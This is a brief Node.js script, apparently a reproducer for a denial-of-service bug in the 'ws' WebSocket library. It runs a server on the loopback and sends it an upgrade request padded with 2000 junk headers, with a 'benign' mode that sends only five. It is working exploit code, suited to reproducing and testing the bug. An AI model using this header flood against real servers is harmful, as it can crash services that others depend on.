"use strict";
// Server and client in one process on the loopback; the exception of the server ends both.
const http = require("http");
const { WebSocketServer } = require("ws");

const count = process.argv.includes("benign") ? 5 : 2000;
const server = new WebSocketServer({ port: 0, host: "127.0.0.1" }, () => {
  const headers = {};
  for (let i = 0; i < count; i++) headers[`x${i}`] = "1";
  Object.assign(headers, { Connection: "Upgrade", Upgrade: "websocket" });
  Object.assign(headers, { "Sec-WebSocket-Key": "AAAAAAAAAAAAAAAAAAAAAA==", "Sec-WebSocket-Version": "13" });
  const request = http.request({ host: "127.0.0.1", port: server.address().port, headers });
  const done = (what) => { console.log(what); process.exit(0); };
  request.on("upgrade", () => done("upgraded"));
  request.on("response", (response) => done(`answered ${response.statusCode}`));
  request.on("error", (error) => done(`closed: ${error.message}`));
  request.end();
});
